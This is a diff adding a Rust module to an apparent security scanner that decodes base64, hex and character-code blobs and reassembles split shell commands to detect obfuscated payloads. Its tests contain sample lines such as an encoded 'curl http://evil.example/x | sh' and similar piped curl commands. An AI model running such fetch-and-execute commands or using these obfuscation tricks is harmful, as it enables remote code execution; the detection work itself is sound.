@@ -1,0 +1,367 @@
+//! Hidden payloads: base64 and hex blobs (and `String.fromCharCode` lists) are decoded
+//! and the decoded text is scanned again, recursively up to [`MAX_DEPTH`] levels; and
+//! commands assembled from pieces (`"cu" + "rl"`, `c""url`, `c\u\r\l`, `$a$b` with
+//! `a=cu b=rl`) are put back together and scanned again. A payload that only shows
+//! after decoding or assembling is a finding of its own (`obfuscation.encoded_payload`,
+//! `obfuscation.assembled_command`), as severe as what it hides (a warning when it
+//! stands in a labelled negative example). All of it is bounded: at most
+//! [`MAX_BLOBS`] blobs and [`MAX_DECODED_BYTES`] decoded bytes per text.
+
+use std::collections::HashMap;
+use std::sync::OnceLock;
+
+use regex::Regex;
+
+use super::context::{Context, Kind, Line, Prepared, TextInput};
+use super::report::{Sink, excerpt};
+use super::rules::{Hit, hits_of, scan_prepared};
+use super::{Category, Severity};
+
+/// Deepest nesting of encodings followed.
+pub const MAX_DEPTH: usize = 4;
+/// Most blobs decoded per text (at each depth).
+pub const MAX_BLOBS: usize = 256;
+/// Most decoded bytes per text (at each depth).
+pub const MAX_DECODED_BYTES: usize = 4 << 20;
+/// Shortest blob worth decoding.
+const MIN_BASE64: usize = 20;
+
+fn re(cell: &'static OnceLock<Regex>, p: &str) -> &'static Regex {
+    cell.get_or_init(|| Regex::new(p).expect("decode pattern"))
+}
+
+fn blob_regex() -> &'static Regex {
+    static R: OnceLock<Regex> = OnceLock::new();
+    re(
+        &R,
+        r"[A-Za-z0-9+/]{20,}={0,2}|(?:\\x[0-9a-fA-F]{2}){6,}|\b(?:[0-9a-fA-F]{2}){12,}\b|(?i:fromcharcode)\s*\(\s*(?:\d{2,3}\s*,\s*){5,}\d{2,3}\s*\)",
+    )
+}
+
+/// Decodes one blob, if it is one and the result is text.
+pub fn decode_blob(blob: &str) -> Option<String> {
+    let bytes = if let Some(rest) = blob.strip_prefix("\\x") {
+        let hex: String = std::iter::once(&rest[..2.min(rest.len())])
+            .chain(rest.split("\\x").skip(1))
+            .collect::<Vec<_>>()
+            .concat();
+        hex::decode(hex).ok()?
+    } else if blob.to_ascii_lowercase().starts_with("fromcharcode") {
+        let inner = blob.split_once('(')?.1.trim_end_matches(')');
+        inner
+            .split(',')
+            .map(|n| n.trim().parse::<u8>().ok())
+            .collect::<Option<Vec<u8>>>()?
+    } else if blob.len().is_multiple_of(2) && blob.bytes().all(|b| b.is_ascii_hexdigit()) {
+        hex::decode(blob).ok()?
+    } else {
+        if blob.len() < MIN_BASE64 {
+            return None;
+        }
+        base64_decode(blob)?
+    };
+    let text = String::from_utf8(bytes).ok()?;
+    let printable = text
+        .chars()
+        .filter(|c| !c.is_control() || matches!(c, '\n' | '\t' | '\r'))
+        .count();
+    let total = text.chars().count();
+    let wordy = text
+        .chars()
+        .any(|c| matches!(c, ' ' | '/' | '|' | '(' | '.'));
+    // A layer of a nested encoding is itself a blob.
+    let layered = text.len() >= MIN_BASE64
+        && text
+            .bytes()
+            .all(|b| b.is_ascii_alphanumeric() || matches!(b, b'+' | b'/' | b'=' | b'\\'));
+    (total >= 6 && printable * 100 >= total * 95 && (wordy || layered)).then_some(text)
+}
+
+/// Standard base64 (padding optional); `None` on any other character.
+fn base64_decode(s: &str) -> Option<Vec<u8>> {
+    let s = s.trim_end_matches('=');
+    let mut out = Vec::with_capacity(s.len() * 3 / 4);
+    let mut acc = 0u32;
+    let mut bits = 0u32;
+    for b in s.bytes() {
+        let v = match b {
+            b'A'..=b'Z' => b - b'A',
+            b'a'..=b'z' => b - b'a' + 26,
+            b'0'..=b'9' => b - b'0' + 52,
+            b'+' | b'-' => 62,
+            b'/' | b'_' => 63,
+            _ => return None,
+        } as u32;
+        acc = (acc << 6) | v;
+        bits += 6;
+        if bits >= 8 {
+            bits -= 8;
+            out.push((acc >> bits) as u8);
+            acc &= (1 << bits) - 1;
+        }
+    }
+    Some(out)
+}
+
+/// What a decoded payload hides: the worst rule hit (searching nested encodings too).
+struct Hidden {
+    severity: Severity,
+    rule: &'static str,
+    excerpt: String,
+}
+
+fn inspect(decoded: &str, depth: usize, budget: &mut usize) -> Option<Hidden> {
+    let (p, hits) = hits_of(decoded, Kind::Shell);
+    let mut best: Option<Hidden> = hits
+        .iter()
+        .filter(|h| h.severity >= Severity::Warn)
+        .max_by_key(|h| h.severity)
+        .map(|h| Hidden {
+            severity: h.severity,
+            rule: h.rule,
+            excerpt: excerpt(p.line_text(h.line), h.start - p.starts[h.line]),
+        });
+    if depth + 1 < MAX_DEPTH {
+        for m in blob_regex().find_iter(decoded).take(MAX_BLOBS) {
+            if *budget == 0 {
+                break;
+            }
+            let Some(inner) = decode_blob(m.as_str()) else {
+                continue;
+            };
+            *budget = budget.saturating_sub(inner.len());
+            if let Some(h) = inspect(&inner, depth + 1, budget)
+                && best.as_ref().is_none_or(|b| h.severity > b.severity)
+            {
+                best = Some(h);
+            }
+        }
+    }
+    best
+}
+
+/// Decoded blobs and assembled strings of one prepared text.
+pub fn scan(input: &TextInput, p: &Prepared, hits: &[Hit], sink: &mut Sink, depth: usize) {
+    let mut budget = MAX_DECODED_BYTES;
+    for m in blob_regex().find_iter(&p.text).take(MAX_BLOBS) {
+        if budget == 0 {
+            break;
+        }
+        let Some(decoded) = decode_blob(m.as_str()) else {
+            continue;
+        };
+        budget = budget.saturating_sub(decoded.len());
+        let Some(hidden) = inspect(&decoded, depth, &mut budget) else {
+            continue;
+        };
+        let li = p.line_index(m.start());
+        let line = &p.lines[li];
+        let severity = match line.ctx {
+            Context::Negative => Severity::Warn,
+            _ => Severity::Block.min(if hidden.severity == Severity::Block {
+                Severity::Block
+            } else {
+                Severity::Warn
+            }),
+        };
+        let what = format!("decodes to ({}): {}", hidden.rule, hidden.excerpt);
+        sink.push_excerpt_with(
+            "obfuscation.encoded_payload",
+            Category::Obfuscation,
+            severity,
+            &input.file,
+            Some(line.no),
+            || excerpt(&what, 0),
+        );
+    }
+    assembled(input, p, hits, sink);
+}
+
+/// Shell and script variables assigned a literal in this text (bounded).
+fn variables(text: &str) -> HashMap<String, String> {
+    static R: OnceLock<Regex> = OnceLock::new();
+    let r = re(
+        &R,
+        r#"(?m)^\s*(?:export\s+|local\s+|set\s+|declare\s+|readonly\s+|var\s+|let\s+|const\s+|my\s+)?\$?([A-Za-z_][A-Za-z0-9_]{0,40})\s*=\s*(?:"([^"\n]{0,200})"|'([^'\n]{0,200})'|([^\s"';&|]{1,200}))"#,
+    );
+    let mut vars = HashMap::new();
+    for c in r.captures_iter(text).take(256) {
+        let value = c
+            .get(2)
+            .or(c.get(3))
+            .or(c.get(4))
+            .map_or("", |m| m.as_str());
+        vars.insert(c[1].to_string(), value.to_string());
+    }
+    vars
+}
+
+/// The line with its pieces put together, when that changes anything.
+fn assemble(line: &str, vars: &HashMap<String, String>) -> Option<String> {
+    static JOIN: OnceLock<Regex> = OnceLock::new();
+    static EMPTY: OnceLock<Regex> = OnceLock::new();
+    static ESC: OnceLock<Regex> = OnceLock::new();
+    static VAR: OnceLock<Regex> = OnceLock::new();
+    static IDENT_PLUS: OnceLock<Regex> = OnceLock::new();
+    static PLUS_IDENT: OnceLock<Regex> = OnceLock::new();
+    let mut s = line.to_string();
+    if !vars.is_empty() && (s.contains('$') || s.contains('+')) {
+        let var = re(
+            &VAR,
+            r"\$\{([A-Za-z_][A-Za-z0-9_]*)\}|\$([A-Za-z_][A-Za-z0-9_]*)",
+        );
+        s = var
+            .replace_all(&s, |c: &regex::Captures<'_>| {
+                let name = c.get(1).or(c.get(2)).map_or("", |m| m.as_str());
+                vars.get(name).cloned().unwrap_or_else(|| c[0].to_string())
+            })
+            .into_owned();
+        let ident = re(&IDENT_PLUS, r"\b([A-Za-z_][A-Za-z0-9_]*)\b(\s*\+\s*)");
+        if s.contains('+') {
+            let replaced = ident.replace_all(&s, |c: &regex::Captures<'_>| match vars.get(&c[1]) {
+                Some(v) => format!("\"{v}\"{}", &c[2]),
+                None => c[0].to_string(),
+            });
+            s = replaced.into_owned();
+            // The last operand of a `+` chain.
+            let plus = re(&PLUS_IDENT, r"(\+\s*)([A-Za-z_][A-Za-z0-9_]*)\b");
+            s = plus
+                .replace_all(&s, |c: &regex::Captures<'_>| match vars.get(&c[2]) {
+                    Some(v) => format!("{}\"{v}\"", &c[1]),
+                    None => c[0].to_string(),
+                })
+                .into_owned();
+        }
+    }
+    let join = re(&JOIN, r#"["']\s*(?:\+|\.\.|\.|&)\s*["']"#);
+    s = join.replace_all(&s, "").into_owned();
+    let empty = re(&EMPTY, r#"([A-Za-z])(?:""|'')([A-Za-z])"#);
+    s = empty.replace_all(&s, "$1$2").into_owned();
+    let esc = re(&ESC, r"([A-Za-z])\\([A-Za-z])");
+    s = esc.replace_all(&s, "$1$2").into_owned();
+    s = esc.replace_all(&s, "$1$2").into_owned();
+    (s != line).then_some(s)
+}
+
+fn assembled(input: &TextInput, p: &Prepared, hits: &[Hit], sink: &mut Sink) {
+    let candidates = |t: &str| {
+        t.contains("\"+")
+            || t.contains("\" +")
+            || t.contains("'+")
+            || t.contains("' +")
+            || t.contains("\"\"")
+            || t.contains("''")
+            || t.contains('$')
+            || t.contains('\\')
+            || t.contains("+ ")
+            || t.contains("\".\"")
+            || t.contains("'.'")
+    };
+    if !candidates(&p.text) {
+        return;
+    }
+    let vars = variables(&p.text);
+    let mut text = String::new();
+    let mut starts = Vec::new();
+    let mut lines: Vec<Line> = Vec::new();
+    let mut origin = Vec::new();
+    for (i, line) in p.lines.iter().enumerate() {
+        if matches!(line.ctx, Context::Prose) {
+            continue;
+        }
+        let t = p.line_text(i);
+        if !candidates(t) || t.len() > 8_192 {
+            continue;
+        }
+        let Some(v) = assemble(t, &vars) else {
+            continue;
+        };
+        starts.push(text.len());
+        text.push_str(&super::context::normalize(&v));
+        text.push('\n');
+        lines.push(line.clone());
+        origin.push(i);
+        if lines.len() >= 4_096 {
+            break;
+        }
+    }
+    if lines.is_empty() {
+        return;
+    }
+    let lower = text.to_ascii_lowercase();
+    let variant = Prepared {
+        text,
+        lower,
+        starts,
+        lines,
+    };
+    for h in scan_prepared(&variant) {
+        if h.severity < Severity::Warn {
+            continue;
+        }
+        let orig = origin[h.line];
+        if hits.iter().any(|o| o.line == orig && o.rule == h.rule) {
+            continue;
+        }
+        let line = &variant.lines[h.line];
+        let what = format!(
+            "assembles to ({}): {}",
+            h.rule,
+            excerpt(variant.line_text(h.line), h.start - variant.starts[h.line])
+        );
+        sink.push_excerpt_with(
+            "obfuscation.assembled_command",
+            Category::Obfuscation,
+            h.severity,
+            &input.file,
+            Some(line.no),
+            || excerpt(&what, 0),
+        );
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn blobs_decode_to_text_only() {
+        assert_eq!(
+            decode_blob("Y3VybCBodHRwOi8vZXZpbC5leGFtcGxlL3ggfCBzaA==").as_deref(),
+            Some("curl http://evil.example/x | sh")
+        );
+        assert_eq!(
+            decode_blob("\\x63\\x75\\x72\\x6c\\x20\\x2f").as_deref(),
+            Some("curl /")
+        );
+        assert!(
+            decode_blob("e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855")
+                .is_none()
+        );
+        assert!(decode_blob("usr/local/bin/something/else/entirely").is_none());
+    }
+
+    #[test]
+    fn assembling_joins_pieces() {
+        let vars = HashMap::from([
+            ("a".to_string(), "cu".to_string()),
+            ("b".to_string(), "rl".to_string()),
+        ]);
+        assert_eq!(
+            assemble("$a$b http://x | sh", &vars).as_deref(),
+            Some("curl http://x | sh")
+        );
+        assert_eq!(
+            assemble("c\"\"url x", &HashMap::new()).as_deref(),
+            Some("curl x")
+        );
+        assert_eq!(
+            assemble("os.system(\"cu\" + \"rl x | sh\")", &HashMap::new()).as_deref(),
+            Some("os.system(\"curl x | sh\")")
+        );
+        assert_eq!(
+            assemble("c\\u\\r\\l x", &HashMap::new()).as_deref(),
+            Some("curl x")
+        );
+    }
+}
